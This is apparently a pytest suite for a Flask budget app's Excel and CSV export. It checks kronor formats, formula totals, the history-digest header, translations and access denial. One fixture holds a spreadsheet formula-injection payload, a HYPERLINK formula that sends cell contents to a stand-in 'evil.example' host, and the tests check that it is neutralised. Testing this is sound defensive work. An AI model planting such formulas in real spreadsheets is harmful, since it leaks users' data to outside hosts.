"""A budget as an Excel workbook and a CSV: money as kronor numbers with a kronor format, totals
as formulas that recompute to the budget's own totals, the revision and history digest in the
header, every text cell data (never a formula), words in the reader's language."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from adapters.bootstrap import System
from adapters.budget_workbook import FIRST_ROW, TABLE_ROW
from adapters.demo import DemoPlan
from adapters.spreadsheet import FORMULA_LEADS, sheet_title
from domain.context import acting_as
from projections import queries
from projections.chain import audit_chain, link_of_change
from projections.sheet import BudgetSheet
from tests.e2e.auth_helpers import DEMO_EMAILS, DEMO_PASSWORD, sign_in
from tests.e2e.demo_years import Y1, Y2

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
#: The only formulas the export writes: a SUM or SUMIF over a range, or one cell minus another.
FORMULA = re.compile(r'=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|SUMIF\(\$C\$\d+:\$C\$\d+,"[^"]+",[A-Z]+\d+:[A-Z]+\d+\)'
                     r'|SUMIF\(\$B\$\d+:\$B\$\d+,"[^"]+",[A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+-[A-Z]+\d+)')
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _person(demo: DemoPlan, first_name: str) -> str:
    return next(p.person_id for p in demo.people if p.name.startswith(first_name))


@pytest.fixture
def budget(demo_system: System, demo: DemoPlan) -> BudgetSheet:
    """The demo budget with an income line, an amount in öre and a line named like a formula."""
    system, anna = demo_system, _person(demo, "Anna")
    with system.engine.connect() as conn:
        lines = queries.budget_sheet(conn, demo.budget_id).lines
    with acting_as(anna):
        system.app.rename_line(demo.budget_id, lines[0]["line_id"], HYPERLINK)
        system.app.change_amount(demo.budget_id, lines[1]["line_id"], Y1, 1_234_567)  # 12 345,67 kr
        system.app.add_line(demo.budget_id, "Bidrag från Leader", "Bidrag",
                            {Y1: 2_000_000, Y2: 1_500_050}, kind="income")
    system.projections.wait(system.app.recorder.max_notification_id(), timeout=10)
    with system.engine.connect() as conn:
        return queries.budget_sheet(conn, demo.budget_id)


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    client = app.test_client()
    assert sign_in(client, DEMO_EMAILS["Anna Berg"]).status_code == 302
    return client


def _workbook(client: FlaskClient, budget_id: str, lang: str = "sv") -> Any:
    reply = client.get(f"/budgets/{budget_id}/export.xlsx?lang={lang}")
    assert reply.status_code == 200, reply.get_data(as_text=True)[:300]
    assert reply.mimetype == XLSX_TYPE
    assert reply.headers["Content-Disposition"].startswith('attachment; filename="budget-')
    return load_workbook(io.BytesIO(reply.get_data()))


def _kr(ore: int) -> Decimal:
    return Decimal(ore) / 100


def _number(value: Any) -> Decimal:
    assert isinstance(value, int | float) and not isinstance(value, bool), f"{value!r} is not a number"
    return Decimal(str(value))


def _cells(sheet: Worksheet, first: str, last: str) -> Iterator[Any]:
    for row in sheet[f"{first}:{last}"]:
        yield from row


def evaluate(sheet: Worksheet, ref: str) -> Decimal:
    """A cell's value as a spreadsheet computes it, for the few formulas the export writes."""
    value = sheet[ref].value
    if not (isinstance(value, str) and value.startswith("=")):
        return Decimal(0) if value is None else _number(value)
    formula = value[1:].replace("$", "")
    if m := re.fullmatch(r"SUM\((\w+):(\w+)\)", formula):
        return sum((evaluate(sheet, c.coordinate) for c in _cells(sheet, m[1], m[2])), Decimal(0))
    if m := re.fullmatch(r'SUMIF\((\w+):(\w+),"([^"]+)",(\w+):(\w+)\)', formula):
        tests, sums = list(_cells(sheet, m[1], m[2])), list(_cells(sheet, m[4], m[5]))
        return sum((evaluate(sheet, s.coordinate) for t, s in zip(tests, sums, strict=True)
                    if t.value == m[3]), Decimal(0))
    if m := re.fullmatch(r"(\w+)-(\w+)", formula):
        return evaluate(sheet, m[1]) - evaluate(sheet, m[2])
    raise AssertionError(f"a formula the export should not write: {value}")


def test_each_line_is_a_row_of_kronor_numbers_with_a_kronor_format(
        client: FlaskClient, budget: BudgetSheet) -> None:
    sheet = _workbook(client, budget.budget["budget_id"]).worksheets[0]
    years = budget.years
    assert [sheet.cell(TABLE_ROW, 4 + i).value for i in range(len(years))] == years
    for r, line in enumerate(budget.lines, start=FIRST_ROW):
        assert sheet.cell(r, 2).value == (line["category"] or None)
        assert sheet.cell(r, 3).value == ("Intäkter" if line["kind"] == "income" else "Kostnad")
        for i, year in enumerate(years):
            cell = sheet.cell(r, 4 + i)
            assert _number(cell.value) == _kr(line["amounts"][year]["amount"])
            assert cell.number_format == '#,##0.00 "kr"'
        for i, actor in enumerate(budget.actors):
            cell = sheet.cell(r, 5 + len(years) + i)
            share = line["shares"].get(actor["actor_id"], {"share": 0})["share"]
            assert _number(cell.value) == Decimal(share) / 10_000
            assert cell.number_format == "0.00%"
    assert _kr(1_234_567) in {_number(sheet.cell(FIRST_ROW + 1, 4 + i).value) for i in range(len(years))}


def test_totals_are_formulas_that_recompute_to_the_budgets_totals(
        client: FlaskClient, budget: BudgetSheet) -> None:
    sheet = _workbook(client, budget.budget["budget_id"]).worksheets[0]
    years, n = budget.years, len(budget.years)
    total = 4 + n
    for r, line in enumerate(budget.lines, start=FIRST_ROW):
        assert sheet.cell(r, total).value.startswith("=SUM(")
        assert evaluate(sheet, sheet.cell(r, total).coordinate) == _kr(line["total"])
        shared = sheet.cell(r, total + len(budget.actors) + 1)
        assert shared.value.startswith("=SUM(")
        assert evaluate(sheet, shared.coordinate) == Decimal(line["shared"]) / 10_000
    costs_row = FIRST_ROW + len(budget.lines)
    assert [sheet.cell(costs_row + k, 1).value for k in range(3)] == ["Kostnader", "Intäkter", "Nettokostnad"]
    for k, key in enumerate(("costs", "income", "net")):
        row = costs_row + k
        for i, year in enumerate(years):
            assert sheet.cell(row, 4 + i).value.startswith("=")
            assert evaluate(sheet, sheet.cell(row, 4 + i).coordinate) == _kr(budget.by_year[year][key])
        assert evaluate(sheet, sheet.cell(row, total).coordinate) == _kr(getattr(budget, key))
        assert sheet.cell(row, total).number_format == '#,##0.00 "kr"'
    assert budget.income > 0 and budget.costs > 0  # both kinds are there to be told apart


def test_the_organisations_and_sectors_sheet_recomputes_to_the_budgets_split(
        client: FlaskClient, budget: BudgetSheet) -> None:
    book = _workbook(client, budget.budget["budget_id"])
    assert book.sheetnames == ["Budget", "Organisationer och sektorer"]
    sheet = book.worksheets[1]
    years, n = budget.years, len(budget.years)
    costs, income, net = 3 + n, 4 + n, 5 + n
    for r, actor in enumerate(budget.actors, start=FIRST_ROW):
        entry = budget.by_actor[actor["actor_id"]]
        assert sheet.cell(r, 1).value == actor["name"]
        for i, year in enumerate(years):
            assert _number(sheet.cell(r, 3 + i).value) == _kr(entry["years"][year]["net"])
        assert _number(sheet.cell(r, costs).value) == _kr(entry["costs"])
        assert _number(sheet.cell(r, income).value) == _kr(entry["income"])
        assert evaluate(sheet, sheet.cell(r, net).coordinate) == _kr(entry["net"])
    unshared = FIRST_ROW + len(budget.actors)
    assert _number(sheet.cell(unshared, costs).value) == _kr(budget.unallocated)
    totals = unshared + 1
    assert sheet.cell(totals, 1).value == "Totalt"
    for i, year in enumerate(years):
        assert evaluate(sheet, sheet.cell(totals, 3 + i).coordinate) == _kr(budget.by_year[year]["net"])
    for column, figure in ((costs, budget.costs), (income, budget.income), (net, budget.net)):
        assert sheet.cell(totals, column).value.startswith("=SUM(")
        assert evaluate(sheet, sheet.cell(totals, column).coordinate) == _kr(figure)
    words = {"public": "offentlig sektor", "private": "näringsliv", "voluntary": "ideell sektor",
             "academic": "akademi"}
    rows = {sheet.cell(r, 1).value: r for r in range(totals + 3, sheet.max_row + 1)}
    assert set(rows) == {words[s] for s in budget.sectors}
    for sector, entry in budget.sectors.items():
        r = rows[words[sector]]
        assert sheet.cell(r, costs).value.startswith("=SUMIF(")
        for column, key in ((costs, "costs"), (income, "income"), (net, "net")):
            assert evaluate(sheet, sheet.cell(r, column).coordinate) == _kr(entry[key])


def test_the_header_names_the_revision_change_and_history_digest(
        client: FlaskClient, budget: BudgetSheet, demo_system: System) -> None:
    book = _workbook(client, budget.budget["budget_id"])
    with demo_system.engine.connect() as conn:
        link = link_of_change(conn, budget.budget["budget_id"], budget.budget["version"])
        chained = conn.execute(audit_chain.select().where(
            audit_chain.c.position == demo_system.app.recorder.max_notification_id())).first()
    assert link is not None and link["link"] and chained is not None
    for sheet in book.worksheets:
        head = {sheet.cell(r, 1).value: sheet.cell(r, 2).value for r in range(1, 7)}
        assert head["Budget"] == budget.budget["title"]
        assert head["Revision"] == budget.budget["revision"] == 1
        assert head["Ändring nr"] == budget.budget["version"]
        assert head["Status"] == "utkast"
        assert head["Kontrollsumma för historiken"] == f"#{link['position']} – SHA-256 {link['link']}"
        assert re.fullmatch(r"[0-9a-f]{64}", link["link"])


def test_no_text_cell_can_run_as_a_formula_and_every_formula_is_a_total(
        client: FlaskClient, budget: BudgetSheet) -> None:
    book = _workbook(client, budget.budget["budget_id"])
    assert book.worksheets[0].cell(FIRST_ROW, 1).value == "'" + HYPERLINK
    assert book.worksheets[0].cell(FIRST_ROW, 1).data_type == "s"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert FORMULA.fullmatch(cell.value), cell.value
                elif isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_LEADS), (cell.coordinate, cell.value)


def test_the_csv_is_the_first_sheet_with_each_total_as_its_value(
        client: FlaskClient, budget: BudgetSheet) -> None:
    reply = client.get(f"/budgets/{budget.budget['budget_id']}/export.csv?lang=sv")
    assert reply.status_code == 200 and reply.mimetype == "text/csv"
    text = reply.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), quoting=csv.QUOTE_NONNUMERIC))
    assert rows[TABLE_ROW - 1][:3] == ["Budgetpost", "Kategori", "Typ"]
    first = rows[FIRST_ROW - 1]
    assert first[0] == "'" + HYPERLINK  # text, neutralised; csv's non-numeric quoting kept it text
    n = len(budget.years)
    for line, row in zip(budget.lines, rows[FIRST_ROW - 1:FIRST_ROW - 1 + len(budget.lines)], strict=True):
        assert [Decimal(str(v)) for v in row[3:3 + n]] == [_kr(line["amounts"][y]["amount"])
                                                           for y in budget.years]
        assert Decimal(str(row[3 + n])) == _kr(line["total"])
    costs, income, net = rows[FIRST_ROW - 1 + len(budget.lines):][:3]
    assert costs[0] == "Kostnader" and Decimal(str(costs[3 + n])) == _kr(budget.costs)
    assert Decimal(str(income[3 + n])) == _kr(budget.income)
    assert Decimal(str(net[3 + n])) == _kr(budget.net)
    assert not [c for r in rows for c in r if isinstance(c, str) and c.startswith(FORMULA_LEADS)]


def test_the_words_are_the_readers_language(client: FlaskClient, budget: BudgetSheet) -> None:
    book = _workbook(client, budget.budget["budget_id"], lang="en")
    assert book.sheetnames == ["Budget", "Organisations and sectors"]
    sheet = book.worksheets[0]
    assert [sheet.cell(TABLE_ROW, c).value for c in (1, 2, 3)] == ["Line item", "Category", "Type"]
    assert sheet.cell(1, 1).value == "Plan" and sheet.cell(5, 1).value == "Change no."
    assert sheet.cell(FIRST_ROW, 4).number_format == '#,##0.00 "SEK"'
    nb = _workbook(client, budget.budget["budget_id"], lang="nb").worksheets[0]
    assert nb.cell(FIRST_ROW, 4).number_format == '#,##0.00 "kr"'
    assert nb.cell(TABLE_ROW, 1).value not in ("Line item", "Budgetpost")


def test_an_outsider_gets_no_export(app: Flask, demo_system: System, budget: BudgetSheet) -> None:
    demo_system.accounts.register("Utomstående Person", "ute@example.org", DEMO_PASSWORD)
    outsider = app.test_client()
    assert sign_in(outsider, "ute@example.org").status_code == 302
    for extension in ("xlsx", "csv"):
        reply = outsider.get(f"/budgets/{budget.budget['budget_id']}/export.{extension}")
        assert reply.status_code == 403
        assert budget.lines[1]["label"].encode() not in reply.get_data()
    anonymous = app.test_client().get(f"/budgets/{budget.budget['budget_id']}/export.xlsx")
    assert anonymous.status_code in (302, 401, 403) and not anonymous.get_data().startswith(b"PK")


def test_the_budget_page_links_to_both_downloads(client: FlaskClient, budget: BudgetSheet) -> None:
    page = client.get(f"/budgets/{budget.budget['budget_id']}?lang=en").get_data(as_text=True)
    path = f'/budgets/{budget.budget["budget_id"]}'
    assert f'href="{path}/export.xlsx?lang=en" download>Excel file (.xlsx)</a>' in page
    assert f'href="{path}/export.csv?lang=en" download>CSV file (.csv)</a>' in page


def test_a_sheet_name_is_one_excel_accepts() -> None:
    assert sheet_title("Kostnader [2027/2028]: *?\\") == "Kostnader  2027 2028"
    assert len(sheet_title("Organisationer och sektorer och mycket mer")) == 31
    assert sheet_title("'??'") == "Sheet"


def test_an_empty_budget_exports_zero_totals_and_its_header(
        client: FlaskClient, demo_system: System, demo: DemoPlan) -> None:
    with acting_as(_person(demo, "Anna")):
        saved = demo_system.app.create_budget(demo.plan_id, "=Tom budget")
    demo_system.projections.wait(saved.positions[-1], timeout=10)
    book = _workbook(client, str(saved.aggregate_id))
    sheet = book.worksheets[0]
    assert sheet.cell(2, 2).value == "'=Tom budget"
    totals = [sheet.cell(FIRST_ROW + k, 1).value for k in range(3)]
    assert totals == ["Kostnader", "Intäkter", "Nettokostnad"]
    assert all(_number(sheet.cell(FIRST_ROW + k, 4).value) == 0 for k in range(2))  # no lines to sum
    assert evaluate(sheet, sheet.cell(FIRST_ROW + 2, 4).coordinate) == 0
    orgs = book.worksheets[1]
    total = next(r for r in range(FIRST_ROW, orgs.max_row + 1) if orgs.cell(r, 1).value == "Totalt")
    assert orgs.cell(total, 3).value.startswith("=SUM(")
    assert evaluate(orgs, orgs.cell(total, 3).coordinate) == 0
